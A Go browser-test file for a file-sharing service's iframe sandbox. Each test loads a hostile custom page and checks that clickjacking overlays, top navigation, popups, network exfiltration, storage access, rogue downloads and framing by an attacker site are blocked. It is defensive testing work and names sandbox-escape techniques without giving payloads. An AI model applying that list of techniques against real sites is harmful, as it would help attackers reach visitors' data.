package web

// The sandbox, proven in a real browser: one test per guarantee of issue 4
// (DESIGN.md, "Public pages and the sandbox"), each run for a published page
// and for a draft shown through its preview link. The hostile pages are in
// testdata/hostile; the harness is in browser_harness_test.go; the threat
// model these tests back is docs/security.md.

import (
	"bytes"
	"context"
	"fmt"
	"image"
	"image/png"
	"math"
	"net/http"
	"net/url"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/browser"
	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/log"
	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/cdproto/target"
	"github.com/chromedp/chromedp"

	"github.com/fileframe/fileframe/internal/fileframe"
)

// 1. A full-viewport overlay at z-index 2147483647 and a fake button drawn
// where the control is: the control stays on top, a real click on it
// downloads the genuine file, and the fake button never hears of it.
func TestBrowserControlStaysOnTop(t *testing.T) {
	t.Parallel()
	forEachEngine(t, func(t *testing.T, b *browserEnv) {
		b.open(t, b.hostile("01-overlay.html"))
		x, y := rect(t, b.tab, control).center()

		// Inside its frame, the hostile page does draw its fake button
		// under the control's centre…
		if got := eval[string](t, b.frame(t), fmt.Sprintf(`document.elementFromPoint(%g, %g)?.id ?? ""`, x, y)); got != "fake" {
			t.Fatalf("in the custom page, elementFromPoint at the control's centre is %q, want the fake button", got)
		}
		// …but in the page the visitor sees, the control is there.
		hit := eval[string](t, b.tab, fmt.Sprintf(`(() => {
			const hit = document.elementFromPoint(%g, %g);
			return document.querySelector(%q).contains(hit) ? "control" : (hit ? hit.outerHTML.slice(0, 120) : "nothing");
		})()`, x, y, control))
		if hit != "control" {
			t.Fatalf("elementFromPoint at the control's centre is %s, want the control", hit)
		}

		b.clickControl(t)
		b.checkDownloads(t, true)
		if got := eval[string](t, b.tab, `document.querySelector("[data-ff-state]").textContent`); got != "Downloaded" {
			t.Errorf("the control says %q after the click, want Downloaded", got)
		}
		res := b.results(t)
		if res["events"] != "0" || res["fakeHandler"] != "never ran" {
			t.Errorf("the custom page saw %s pointer events and its fake button handler %s; want none and never", res["events"], res["fakeHandler"])
		}

		// The page does hear clicks anywhere else: its listeners work.
		b.click(t, 400, 300)
		poll(t, "the custom page to see a click away from the control", func() bool {
			return eval[string](t, b.frame(t), `results.events`) != "0"
		})
		b.checkNoRequests(t)
	})
}

// 2. top.location and <a target=_top>, with and without a user gesture: the
// top page stays where it is and nothing reaches the target.
func TestBrowserNoTopNavigation(t *testing.T) {
	t.Parallel()
	forEachEngine(t, func(t *testing.T, b *browserEnv) {
		outer := b.open(t, b.hostile("02-top-navigation.html"))
		var events *eventLog
		if b.engine == chromium {
			events = listen(t, b.tab)
		}
		b.clickInFrame(t, "#top-button")
		b.clickInFrame(t, "#top-link")
		b.checkNoRequests(t)
		if got := b.location(t); got != outer {
			t.Errorf("the top page is at %s, want %s", got, outer)
		}
		if events != nil {
			for _, ev := range eventsOf[page.EventFrameNavigated](events) {
				if ev.Frame.ParentID == "" {
					t.Errorf("the top page navigated to %s", ev.Frame.URL)
				}
			}
		}
		b.results(t) // the clicks reached the page
	})
}

// 3. The frame navigating itself (location, <meta http-equiv=refresh>, a
// data: URL): no request reaches the target.
func TestBrowserNoFrameNavigation(t *testing.T) {
	t.Parallel()
	forEachEngine(t, func(t *testing.T, b *browserEnv) {
		for _, name := range []string{"03-frame-location.html", "03-frame-meta-refresh.html", "03-frame-data-url.html"} {
			var logs *eventLog
			if b.engine == chromium {
				logs = listen(t, b.tab)
			}
			outer := b.show(t, b.hostile(name))
			b.navigate(t, outer)
			b.checkNoRequests(t)
			if got := b.location(t); got != outer {
				t.Errorf("%s: the top page is at %s, want %s", name, got, outer)
			}
			docs := b.frameDocuments(t)
			t.Logf("%s: the tab's frames show %q", name, docs)
			for _, doc := range docs {
				if strings.HasPrefix(doc, b.evil.origin) || strings.HasPrefix(doc, "data:") {
					t.Errorf("%s: a frame shows %s", name, doc)
				}
			}
			if logs == nil {
				continue
			}
			// In Chromium, the custom page's frame now shows the browser's
			// error page.
			if len(docs) != 1 || docs[0] != "chrome-error://chromewebdata/" {
				t.Errorf("%s: the tab's frames show %q, want the browser's error page", name, docs)
			}
			// The outer page's CSP (frame-src: the content origin only) is
			// what refused it.
			refused := false
			for _, ev := range eventsOf[log.EventEntryAdded](logs) {
				if strings.Contains(ev.Entry.Text, "frame-src") {
					t.Logf("%s: the outer page's console: %s", name, ev.Entry.Text)
					refused = true
				}
			}
			if !refused {
				t.Errorf("%s: the outer page logged no frame-src violation: did the page try to navigate?", name)
			}
		}
	})
}

// 4. window.open and target=_blank, with and without a click: no new page.
func TestBrowserNoPopups(t *testing.T) {
	t.Parallel()
	forEachVariant(t, func(t *testing.T, b *browserEnv) {
		targets := listenBrowser(t, b.tab)
		b.open(t, b.hostile("04-popups.html"))
		b.clickInFrame(t, "#open-button")
		b.clickInFrame(t, "#blank-link")
		res := b.results(t)
		b.checkNoRequests(t)
		for _, ev := range eventsOf[target.EventTargetCreated](targets) {
			if ev.TargetInfo.BrowserContextID == b.browserContextID() && ev.TargetInfo.Type != "iframe" {
				t.Errorf("a new %s target appeared: %s", ev.TargetInfo.Type, ev.TargetInfo.URL)
			}
		}
		for _, info := range b.targets(t) {
			if info.Type == "page" && info.TargetID != chromedp.FromContext(b.tab).Target.TargetID {
				t.Errorf("a second page is open: %s", info.URL)
			}
		}
		for _, name := range []string{"window.open (no gesture)", "window.open blank (no gesture)", "window.open (click)", "window.open with features (click)"} {
			if res[name] != "returned null" {
				t.Errorf("%s: %s, want it to return null", name, res[name])
			}
		}
	})
}

// 5. fetch, XHR, WebSocket, sendBeacon, prefetch and preload, @import,
// external script and stylesheet: no request reaches the attacker.
func TestBrowserNoNetwork(t *testing.T) {
	t.Parallel()
	forEachEngine(t, func(t *testing.T, b *browserEnv) {
		b.open(t, b.hostile("05-network.html"))
		res := b.results(t)
		b.checkNoRequests(t)
		for name, outcome := range res {
			// sendBeacon only queues the request: it returns true even
			// when the CSP then blocks it. The attacker's log is the proof.
			if name != "sendBeacon" && (strings.HasPrefix(outcome, "resolved") || outcome == "yes") {
				t.Errorf("%s: %s", name, outcome)
			}
		}
	})
}

// 6. Cookies, localStorage, sessionStorage, indexedDB, caches, service
// workers: each throws or fails, and the page's origin is opaque.
func TestBrowserNoStorage(t *testing.T) {
	t.Parallel()
	forEachEngine(t, func(t *testing.T, b *browserEnv) {
		// Cookies for the page to find, were it able to look.
		for _, origin := range []string{b.appOrigin(), b.contentOrigin()} {
			b.setCookie(t, origin, "session", "secret-"+origin, false)
		}
		b.open(t, b.hostile("06-storage.html"))
		res := b.results(t)
		if res["self.origin"] != "null" {
			t.Errorf("self.origin: %s, want null", res["self.origin"])
		}
		// In a secure context the APIs exist, so the failures below are the
		// sandbox's doing.
		if res["isSecureContext"] != "true" {
			t.Errorf("isSecureContext: %s, want true", res["isSecureContext"])
		}
		for _, name := range []string{"document.cookie read", "document.cookie write", "localStorage", "sessionStorage"} {
			if !strings.HasPrefix(res[name], "threw ") {
				t.Errorf("%s: %s, want it to throw", name, res[name])
			}
		}
		for _, name := range []string{"indexedDB", "caches", "serviceWorker.register", "cookieStore", "requestStorageAccess"} {
			if !strings.HasPrefix(res[name], "rejected ") {
				t.Errorf("%s: %s, want it to fail", name, res[name])
			}
		}
		b.checkNoRequests(t)
	})
}

// 7. form.submit() and a clicked submit button: nothing is sent.
func TestBrowserNoFormSubmission(t *testing.T) {
	t.Parallel()
	forEachVariant(t, func(t *testing.T, b *browserEnv) {
		outer := b.open(t, b.hostile("07-form-submit.html"))
		b.results(t)
		b.checkNoRequests(t)
		if got := b.location(t); got != outer {
			t.Errorf("after form.submit() the top page is at %s, want %s", got, outer)
		}

		outer = b.open(t, b.hostile("07-form-click.html"))
		b.clickInFrame(t, "#submit")
		res := b.results(t)
		b.checkNoRequests(t)
		if got := b.location(t); got != outer {
			t.Errorf("the top page is at %s, want %s", got, outer)
		}
		if res["submit button"] != "clicked" {
			t.Errorf("the click did not reach the submit button")
		}
	})
}

// 8. <a download> with data: and blob: URLs, from script and clicked, and
// the frame navigated to the service's attachment URL: no file appears in
// the download folder but the one the genuine control fetches.
func TestBrowserNoDownloadsButTheControls(t *testing.T) {
	t.Parallel()
	forEachEngine(t, func(t *testing.T, b *browserEnv) {
		var browserEvents *eventLog
		if b.engine == chromium {
			browserEvents = listenBrowser(t, b.tab)
		}
		b.open(t, b.hostile("08-downloads.html"))
		b.clickInFrame(t, "#data-link")
		b.clickInFrame(t, "#blob-link")
		b.results(t)

		outer := b.show(t, b.hostile("08-download-navigation.html"))
		b.navigate(t, outer)
		b.checkNoRequests(t) // waits quietPeriod
		b.checkDownloads(t, false)

		b.clickControl(t)
		time.Sleep(quietPeriod) // anything else that was on its way
		b.checkDownloads(t, true)
		if browserEvents == nil {
			return
		}

		// Chromium's download events agree: the tab and its frames (a
		// frame's ID is its target's) began one download, the control's.
		mine := map[cdp.FrameID]bool{cdp.FrameID(chromedp.FromContext(b.tab).Target.TargetID): true}
		for _, ev := range eventsOf[target.EventTargetCreated](browserEvents) {
			if ev.TargetInfo.BrowserContextID == b.browserContextID() {
				mine[cdp.FrameID(ev.TargetInfo.TargetID)] = true
			}
		}
		var began []string
		for _, ev := range eventsOf[browser.EventDownloadWillBegin](browserEvents) {
			if mine[ev.FrameID] {
				began = append(began, ev.URL)
			}
		}
		if want := b.appOrigin() + "/f/" + b.file.Slug + "/download"; len(began) != 1 || began[0] != want {
			t.Errorf("downloads began: %q, want only the control's %s", began, want)
		}
	})
}

// 9. alert, confirm, prompt and print return at once, and no dialog opens.
func TestBrowserNoDialogs(t *testing.T) {
	t.Parallel()
	forEachVariant(t, func(t *testing.T, b *browserEnv) {
		outer := b.show(t, b.hostile("09-dialogs.html"))
		tabDialogs := b.dismissDialogs(t, b.tab)
		b.navigate(t, outer)
		b.waitFrame(t, "ready")
		frameDialogs := b.dismissDialogs(t, b.frame(t))
		b.clickInFrame(t, "#go")
		res := b.results(t)
		time.Sleep(quietPeriod)
		for _, l := range []*eventLog{tabDialogs, frameDialogs} {
			for _, ev := range eventsOf[page.EventJavascriptDialogOpening](l) {
				t.Errorf("a %s dialog opened: %q", ev.Type, ev.Message)
			}
		}
		want := map[string]string{"alert": "returned undefined", "confirm": "returned false", "prompt": "returned null", "print": "returned undefined"}
		after := regexp.MustCompile(`^(.*) after (\d+) ms$`)
		for name, wantOutcome := range want {
			for _, when := range []string{"no gesture", "click"} {
				key := name + " (" + when + ")"
				m := after.FindStringSubmatch(res[key])
				if m == nil {
					t.Errorf("%s: %q", key, res[key])
					continue
				}
				if ms, _ := strconv.Atoi(m[2]); m[1] != wantOutcome || ms > 1000 {
					t.Errorf("%s: %s after %s ms, want %s at once", key, m[1], m[2], wantOutcome)
				}
			}
		}
	})
}

// dismissDialogs records the dialogs that open in the target of ctx and
// dismisses them, so that a failing test fails rather than hangs.
func (b *browserEnv) dismissDialogs(t *testing.T, ctx context.Context) *eventLog {
	t.Helper()
	l := &eventLog{}
	err := chromedp.Listen(ctx, func(ev any) {
		if _, ok := ev.(*page.EventJavascriptDialogOpening); !ok {
			return
		}
		l.add(ev)
		// Listen funcs must not send commands; a goroutine may.
		go func() {
			ctx, cancel := context.WithTimeout(ctx, actionTimeout)
			defer cancel()
			chromedp.Call(ctx, page.HandleJavaScriptDialog, page.HandleJavaScriptDialogParams{Accept: false})
		}()
	})
	if err != nil {
		t.Fatal(err)
	}
	return l
}

// 10. Fullscreen, pointer lock, notifications, geolocation, the clipboard
// API, document picture-in-picture, eval, WebAssembly and workers: each is
// refused, even in a real click and with the permissions granted to both
// origins.
func TestBrowserNoPowerfulFeatures(t *testing.T) {
	t.Parallel()
	forEachVariant(t, func(t *testing.T, b *browserEnv) {
		for _, name := range []string{"geolocation", "notifications", "clipboard-read", "clipboard-write"} {
			for _, embedded := range []string{b.appOrigin(), b.contentOrigin()} {
				b.callBrowser(t, func(ctx context.Context) error {
					_, err := chromedp.CallBrowser(ctx, browser.SetPermission, browser.SetPermissionParams{
						Permission: &browser.PermissionDescriptor{Name: name}, Setting: browser.PermissionSettingGranted,
						Origin: b.appOrigin(), EmbeddedOrigin: embedded, BrowserContextID: b.browserContextID(),
					})
					return err
				})
			}
		}
		targets := listenBrowser(t, b.tab)
		b.open(t, b.hostile("10-powerful-features.html"))
		b.clickInFrame(t, "#go")
		res := b.results(t)
		if res["isSecureContext"] != "true" {
			t.Errorf("isSecureContext: %s, want true", res["isSecureContext"])
		}
		threw := map[string]string{"eval": "EvalError", "Function": "EvalError", "WebAssembly.Module": "CompileError"}
		for name, errName := range threw {
			if !strings.HasPrefix(res[name], "threw "+errName) {
				t.Errorf("%s: %s, want it to throw %s", name, res[name], errName)
			}
		}
		for _, name := range []string{
			"fullscreen", "pointer lock", "geolocation", "clipboard.writeText", "clipboard.readText",
			"documentPictureInPicture.requestWindow", "video picture-in-picture",
			"WebAssembly.compile", "WebAssembly.instantiate",
			"Worker (blob:)", "Worker (data:)", "SharedWorker (blob:)",
		} {
			if !strings.HasPrefix(res[name], "rejected ") {
				t.Errorf("%s: %s, want it refused", name, res[name])
			}
		}
		// Notification.requestPermission reports the permission of the top
		// page's origin, granted here; showing one is what the sandbox
		// refuses. The same call in the outer page shows one: the browser
		// can, and the permission is there.
		if got := res["new Notification"]; !strings.HasPrefix(got, "rejected ") {
			t.Errorf("new Notification: %s, want it refused", got)
		}
		if got := eval[string](t, b.tab, `new Promise(resolve => {
			const n = new Notification("test");
			n.onshow = () => resolve("shown");
			n.onerror = () => resolve("error event");
		})`); got != "shown" {
			t.Errorf("a notification from the outer page: %s, want shown (else the check above proves nothing)", got)
		}
		if res["document.fullscreenElement afterwards"] != "null" || res["document.pointerLockElement afterwards"] != "null" {
			t.Errorf("afterwards: fullscreen element %s, pointer lock element %s; want null and null",
				res["document.fullscreenElement afterwards"], res["document.pointerLockElement afterwards"])
		}
		if got := eval[bool](t, b.tab, `document.fullscreenElement === null && document.pointerLockElement === null`); !got {
			t.Errorf("the outer page has a fullscreen or pointer-lock element")
		}
		for _, ev := range eventsOf[target.EventTargetCreated](targets) {
			if ev.TargetInfo.BrowserContextID == b.browserContextID() && ev.TargetInfo.Type != "iframe" {
				t.Errorf("a new %s target appeared: %s", ev.TargetInfo.Type, ev.TargetInfo.URL)
			}
		}
		b.checkNoRequests(t)
	})
}

// 11. A top-level visit to the content URL lands on the outer page, with
// the control.
func TestBrowserContentURLLandsOnOuterPage(t *testing.T) {
	t.Parallel()
	forEachEngine(t, func(t *testing.T, b *browserEnv) {
		outer := b.open(t, b.hostile("blank.html"))
		frameURL := eval[string](t, b.tab, `document.querySelector("iframe").src`)
		if !strings.HasPrefix(frameURL, b.contentOrigin()+"/p/") {
			t.Fatalf("the frame shows %s, want a page of the content origin %s", frameURL, b.contentOrigin())
		}
		var events *eventLog
		if b.engine == chromium {
			events = listen(t, b.tab)
		}
		b.navigate(t, frameURL)
		if got := b.location(t); got != outer {
			t.Errorf("a visit to %s lands on %s, want %s", frameURL, got, outer)
		}
		redirected := events == nil // Chromium's network events show the 302
		if events != nil {
			for _, ev := range eventsOf[network.EventRequestWillBeSent](events) {
				if r := ev.RedirectResponse; r != nil && r.URL == frameURL {
					redirected = r.Status == http.StatusFound
				}
			}
		}
		if !redirected {
			t.Errorf("no 302 from %s", frameURL)
		}
		href := eval[string](t, b.tab, fmt.Sprintf(`document.querySelector(%q)?.getAttribute("href") ?? ""`, control))
		if want := "/f/" + b.file.Slug + "/download"; href != want {
			t.Errorf("the control links to %q, want %q", href, want)
		}
		wantBadge := b.variant == preview
		if got := eval[bool](t, b.tab, `document.querySelector(".ff-preview") !== null`); got != wantBadge {
			t.Errorf("preview badge shown: %v, want %v", got, wantBadge)
		}
		b.clickControl(t)
		b.checkDownloads(t, true)
	})
}

// 12. An 8-second busy loop in the page: the outer page still answers script
// evaluation in under 100 ms, and the control still downloads. This holds
// because the custom page, on another site, runs in a renderer process of
// its own (site isolation); in Chromium the test checks that too. It runs in
// both engines, with the origins on separate domains (the recommended
// set-up) and as `fileframe serve` names them when nothing is configured
// (127.0.0.1 and localhost: two sites, though on one host).
//
// Were the frame in the outer page's process, the first evaluation would
// wait for the end of the loop, up to 8 s, and no other could run during
// it. With isolation, an idle machine answers every one in 5–25 ms; on a
// small machine under heavy load (other test binaries, fuzzers) a few take
// a few hundred ms whatever the page does. So the test wants at least 20
// answers during the loop, a median under 100 ms, and none over 2 s. It does
// not run in parallel with the other browser tests, whose load would
// otherwise set the response time.
func TestBrowserBusyLoopLeavesControlResponsive(t *testing.T) {
	setups := []struct {
		name string
		cfg  envConfig
	}{
		{"published", envConfig{engine: chromium, variant: published}},
		{"preview", envConfig{engine: chromium, variant: preview}},
		{"default-origins", envConfig{engine: chromium, variant: published, defaultOrigins: true}},
		{"firefox", envConfig{engine: firefox, variant: published}},
		{"firefox-default-origins", envConfig{engine: firefox, variant: published, defaultOrigins: true}},
	}
	for _, setup := range setups {
		t.Run(setup.name, func(t *testing.T) {
			b := newBrowserEnvWith(t, setup.cfg)
			t.Logf("app origin %s, content origin %s", b.appOrigin(), b.contentOrigin())
			outer := b.show(t, b.hostile("12-busy-loop.html"))
			b.navigate(t, outer)

			// Sample the outer page's response time while the loop runs,
			// and use the control once, half way.
			type sample struct {
				at  time.Time
				rtt time.Duration
			}
			var samples []sample
			start := time.Now()
			var downloaded time.Time
			for time.Since(start) < 7*time.Second {
				samples = append(samples, sample{time.Now(), evalTimed(t, b.tab, `document.title`)})
				if downloaded.IsZero() && time.Since(start) > 2*time.Second {
					b.clickControl(t)
					downloaded = time.Now()
				}
				time.Sleep(50 * time.Millisecond)
			}

			// Only now ask the frame (it answers once the loop is over).
			if b.engine == chromium && b.frameTarget(t) == nil {
				t.Fatalf("the custom page is not an out-of-process frame: site isolation is off")
			}
			res := b.results(t)
			loopStart, err1 := strconv.ParseInt(res["loopStart"], 10, 64)
			loopEnd, err2 := strconv.ParseInt(res["loopEnd"], 10, 64)
			if err1 != nil || err2 != nil {
				t.Fatalf("the page recorded no loop: %v", res)
			}
			var during []time.Duration
			for _, s := range samples {
				if at := s.at.UnixMilli(); at >= loopStart && at <= loopEnd {
					during = append(during, s.rtt)
				}
			}
			slices.Sort(during)
			if len(during) < 20 {
				t.Fatalf("only %d evaluations were answered during the loop, want at least 20: the loop blocks the outer page", len(during))
			}
			median, p90, worst := during[len(during)/2], during[len(during)*9/10], during[len(during)-1]
			t.Logf("%d evaluations during the %d ms loop: median %v, 90th percentile %v, slowest %v",
				len(during), loopEnd-loopStart, median, p90, worst)
			if median >= 100*time.Millisecond {
				t.Errorf("the outer page answered in %v (median) during the loop, want under 100ms", median)
			}
			if worst >= 2*time.Second {
				t.Errorf("an evaluation during the loop took %v: the loop blocked the outer page", worst)
			}
			if at := downloaded.UnixMilli(); at < loopStart || at > loopEnd {
				t.Errorf("the download completed at %d, outside the loop (%d–%d)", at, loopStart, loopEnd)
			}
			b.checkDownloads(t, true)
		})
	}
}

// 13. <base href> to another host and a relative image: no request there.
func TestBrowserNoBaseHref(t *testing.T) {
	t.Parallel()
	forEachVariant(t, func(t *testing.T, b *browserEnv) {
		b.open(t, b.hostile("13-base-href.html"))
		res := b.results(t)
		b.checkNoRequests(t)
		if base := res["document.baseURI"]; !strings.HasPrefix(base, b.contentOrigin()+"/") {
			t.Errorf("document.baseURI is %s, want the page's own address", base)
		}
	})
}

// 14. Nested frames (iframe, srcdoc, object, embed) aimed at another host:
// no request there.
func TestBrowserNoNestedFrames(t *testing.T) {
	t.Parallel()
	forEachVariant(t, func(t *testing.T, b *browserEnv) {
		b.open(t, b.hostile("14-nested-frames.html"))
		b.results(t)
		b.checkNoRequests(t)
		for _, doc := range b.frameDocuments(t) {
			if !strings.HasPrefix(doc, b.contentOrigin()+"/") && doc != "chrome-error://chromewebdata/" {
				t.Errorf("a frame shows %s", doc)
			}
		}
	})
}

// 15. A hostile site frames /f/<slug>: the browser refuses to show it.
func TestBrowserOuterPageCannotBeFramed(t *testing.T) {
	t.Parallel()
	forEachEngine(t, func(t *testing.T, b *browserEnv) {
		outer := b.show(t, b.hostile("blank.html"))
		var events *eventLog
		if b.engine == chromium {
			events = listen(t, b.tab)
		}
		attack := b.evil.host("framer", b.hostile("15-framer.html", "{{TARGET}}", outer))
		b.navigate(t, attack)
		poll(t, "the attacker's page", func() bool {
			return eval[bool](t, b.tab, `document.documentElement.dataset.done === "1"`)
		})
		res := eval[map[string]string](t, b.tab, `window.results`)
		t.Logf("the attacker's page recorded: %s", fmtResults(res))
		// The outer page has one frame (the custom page), an error page
		// none.
		if got := res["victim frames.length"]; got != "0" {
			t.Errorf("the framed document has %s frames: the outer page rendered inside the attacker's page", got)
		}
		if events == nil {
			// Firefox shows its error page for the refusal.
			for _, doc := range b.frameDocuments(t) {
				t.Logf("the frame shows %s", doc)
				if !strings.HasPrefix(doc, "about:neterror?e=cspBlocked") {
					t.Errorf("the frame shows %s, want Firefox's error page", doc)
				}
			}
			return
		}

		// The server did answer…
		answered := false
		for _, ev := range eventsOf[network.EventResponseReceived](events) {
			if ev.Response.URL == outer {
				answered = ev.Response.Status == http.StatusOK
				if got := header(ev.Response.Headers, "X-Frame-Options"); got != "DENY" {
					t.Errorf("X-Frame-Options: %q, want DENY", got)
				}
				if got := header(ev.Response.Headers, "Content-Security-Policy"); !strings.Contains(got, "frame-ancestors 'none'") {
					t.Errorf("Content-Security-Policy %q has no frame-ancestors 'none'", got)
				}
			}
		}
		if !answered {
			t.Fatalf("the browser never got the outer page: nothing was refused")
		}
		// …and the browser showed an error page instead. The frame's own
		// document, read through its target (the app origin is another
		// site, so the frame has a process and a target of its own), is
		// the browser's error page.
		frames := 0
		for _, info := range b.targets(t) {
			if info.Type != "iframe" {
				continue
			}
			frames++
			ctx, cancel := chromedp.NewContext(b.tab, chromedp.WithTargetID(info.TargetID), chromedp.WithDetachOnCancel())
			defer cancel()
			doc := eval[string](t, ctx, fmt.Sprintf(`location.href + (document.querySelector(%q) ? " with the control" : "")`, control))
			t.Logf("the frame of %s shows %s", info.URL, doc)
			if !strings.HasPrefix(doc, "chrome-error:") || strings.Contains(doc, "control") {
				t.Errorf("the frame of %s shows %s, want the browser's error page", info.URL, doc)
			}
		}
		if frames != 1 {
			t.Errorf("the attacker's page has %d frame targets, want 1", frames)
		}
	})
}

// 16. A screenshot of the control with the hostile overlay page equals one
// with a blank page.
func TestBrowserControlLooksTheSame(t *testing.T) {
	t.Parallel()
	forEachVariant(t, func(t *testing.T, b *browserEnv) {
		shot := func(name string) (image.Image, box) {
			b.open(t, b.hostile(name))
			b.waitFrame(t, "done")
			// Whatever the two documents drew is on screen.
			eval[bool](t, b.frame(t), painted)
			eval[bool](t, b.tab, painted)
			r := rect(t, b.tab, control)
			clip := &page.Viewport{
				X: math.Floor(r.X), Y: math.Floor(r.Y),
				Width: math.Ceil(r.X+r.Width) - math.Floor(r.X), Height: math.Ceil(r.Y+r.Height) - math.Floor(r.Y),
				Scale: 1,
			}
			res := run(t, b.tab, func(ctx context.Context, tg *chromedp.Target) (page.CaptureScreenshotResult, error) {
				return cdp.Call(ctx, tg, page.CaptureScreenshot, page.CaptureScreenshotParams{
					Format: page.CaptureScreenshotFormatPng, Clip: clip, FromSurface: new(true),
				})
			})
			img, err := png.Decode(bytes.NewReader(res.Data))
			if err != nil {
				t.Fatal(err)
			}
			return img, r
		}
		// The two shots are taken again, up to three times, when the
		// control's pixels differ: a leak of the hostile page shows in every
		// shot, a frame caught mid-repaint (seen once in CI, with the
		// browser busy with the suite's other tests) only in one.
		var inside, differ, corner, cornerDiffer int
		for attempt := 1; ; attempt++ {
			blank, blankBox := shot("blank.html")
			hostile, hostileBox := shot("01-overlay.html")
			if blankBox != hostileBox {
				t.Fatalf("the control moved: %+v with the blank page, %+v with the hostile one", blankBox, hostileBox)
			}
			if blank.Bounds() != hostile.Bounds() {
				t.Fatalf("screenshots of %v and %v", blank.Bounds(), hostile.Bounds())
			}
			var where image.Rectangle
			inside, differ, corner, cornerDiffer, where = comparePill(blank, hostile, blankBox)
			t.Logf("control %+v: %d pixels inside, %d differ; %d outside in the corners, %d differ", blankBox, inside, differ, corner, cornerDiffer)
			if differ == 0 || attempt == 3 {
				break
			}
			t.Logf("attempt %d: the differing pixels of the control are in %v of the shot (blank %v, hostile %v at its first); taking both shots again",
				attempt, where, blank.At(where.Min.X, where.Min.Y), hostile.At(where.Min.X, where.Min.Y))
		}
		switch {
		case inside == 0:
			t.Errorf("the shots hold no pixel of the control")
		case differ > 0:
			t.Errorf("%d of the control's %d pixels differ between the blank and the hostile page, in three shots of each", differ, inside)
		}
		if cornerDiffer == 0 {
			t.Errorf("the hostile page painted nothing in the corners of the control's box: the comparison proves nothing")
		}
	})
}

// comparePill compares two shots of the control r (a pill, border-radius
// 999px): the pixels of the pill, less a 1.5 px band at its anti-aliased
// edge, and those of the corners of its bounding box, which show whatever
// lies under it. It returns how many of each there are and differ, and the
// bounds of the pill's differing pixels.
func comparePill(a, b image.Image, r box) (inside, differ, corner, cornerDiffer int, where image.Rectangle) {
	radius := min(r.Height/2, 999)
	offX, offY := math.Floor(r.X), math.Floor(r.Y)
	bounds := a.Bounds()
	for py := bounds.Min.Y; py < bounds.Max.Y; py++ {
		for px := bounds.Min.X; px < bounds.Max.X; px++ {
			d := pillDistance(offX+float64(px-bounds.Min.X)+0.5, offY+float64(py-bounds.Min.Y)+0.5, r, radius)
			same := a.At(px, py) == b.At(px, py)
			switch {
			case d <= -1.5:
				inside++
				if !same {
					differ++
					where = where.Union(image.Rect(px, py, px+1, py+1))
				}
			case d >= 1.5:
				corner++
				if !same {
					cornerDiffer++
				}
			}
		}
	}
	return inside, differ, corner, cornerDiffer, where
}

// pillDistance returns the signed distance from the point x, y to the edge of
// the rounded rectangle r with the given corner radius: negative inside.
func pillDistance(x, y float64, r box, radius float64) float64 {
	cx, cy := r.X+r.Width/2, r.Y+r.Height/2
	qx := math.Abs(x-cx) - (r.Width/2 - radius)
	qy := math.Abs(y-cy) - (r.Height/2 - radius)
	outside := math.Hypot(math.Max(qx, 0), math.Max(qy, 0))
	return outside + math.Min(math.Max(qx, qy), 0) - radius
}

// 17. Every status the content origin answers (200, 302, 403, 404, 405,
// 500) carries the sandbox CSP, the Connection-Allowlist and nosniff, and
// no cookie. The responses are the browser's own, read from its network
// events.
func TestBrowserContentOriginHeaders(t *testing.T) {
	t.Parallel()
	forEachVariant(t, func(t *testing.T, b *browserEnv) {
		events := listen(t, b.tab)
		b.open(t, b.hostile("blank.html")) // 200, in the frame
		frameURL := eval[string](t, b.tab, `document.querySelector("iframe").src`)
		b.navigate(t, frameURL)                           // 302, a top-level visit
		b.navigate(t, b.contentOrigin()+"/no/such/thing") // 404
		probes := b.evil.host("probes", b.hostile("17-probes.html", "{{TARGET}}", frameURL))
		b.navigate(t, probes) // 403 (an image), 405 (a POST), 500 (the broken store)
		poll(t, "the probes", func() bool {
			return eval[bool](t, b.tab, `document.documentElement.dataset.done === "1"`)
		})

		type answer struct {
			url     string
			headers network.Headers
		}
		got := map[int64][]answer{}
		fromContent := func(u string) bool { return strings.HasPrefix(u, b.contentOrigin()+"/") }
		responded := map[network.RequestID]bool{}
		for _, ev := range eventsOf[network.EventResponseReceived](events) {
			responded[ev.RequestID] = true
			if r := ev.Response; fromContent(r.URL) {
				got[r.Status] = append(got[r.Status], answer{r.URL, r.Headers})
			}
		}
		hops := map[network.RequestID][]string{}
		for _, ev := range eventsOf[network.EventRequestWillBeSent](events) {
			hops[ev.RequestID] = append(hops[ev.RequestID], ev.Request.URL)
			if r := ev.RedirectResponse; r != nil && fromContent(r.URL) {
				got[r.Status] = append(got[r.Status], answer{r.URL, r.Headers})
			}
		}
		// A response that fails CORS (the attacker's fetches) gets no
		// responseReceived event; its raw headers come in an ExtraInfo one.
		for _, ev := range eventsOf[network.EventResponseReceivedExtraInfo](events) {
			if h := hops[ev.RequestID]; len(h) == 1 && fromContent(h[0]) && !responded[ev.RequestID] {
				got[ev.StatusCode] = append(got[ev.StatusCode], answer{h[0], ev.Headers})
			}
		}
		wantCSP := wantSandboxCSP(b.appOrigin(), b.contentOrigin())
		wantAllowlist := connectionAllowlist(b.contentOrigin())
		for _, status := range []int64{200, 302, 403, 404, 405, 500} {
			answers := got[status]
			if len(answers) == 0 {
				t.Errorf("the browser got no %d from the content origin", status)
				continue
			}
			for _, a := range answers {
				if csp := header(a.headers, "Content-Security-Policy"); csp != wantCSP {
					t.Errorf("%d %s: Content-Security-Policy\n%q, want\n%q", status, a.url, csp, wantCSP)
				}
				if got := header(a.headers, "X-Content-Type-Options"); got != "nosniff" {
					t.Errorf("%d %s: X-Content-Type-Options %q, want nosniff", status, a.url, got)
				}
				if got := header(a.headers, "Connection-Allowlist"); got != wantAllowlist {
					t.Errorf("%d %s: Connection-Allowlist %q, want %q", status, a.url, got, wantAllowlist)
				}
				if got := header(a.headers, "Set-Cookie"); got != "" {
					t.Errorf("%d %s: Set-Cookie %q", status, a.url, got)
				}
			}
		}
		var statuses []int64
		for s := range got {
			statuses = append(statuses, s)
		}
		slices.Sort(statuses)
		t.Logf("statuses seen from the content origin: %v", statuses)
	})
}

// header returns the value of the named header, case-insensitively.
func header(h network.Headers, name string) string {
	for k, v := range h {
		if strings.EqualFold(k, name) {
			s, _ := v.(string)
			return s
		}
	}
	return ""
}

// The hostile pages do what they claim when no sandbox stops them: shown in
// a plain frame of the attacker's own site (no sandbox, no CSP), each one
// reaches the attacker's server, navigates the top page or downloads its
// files. Without this control, "no request" in the tests above could mean a
// page that never tried.
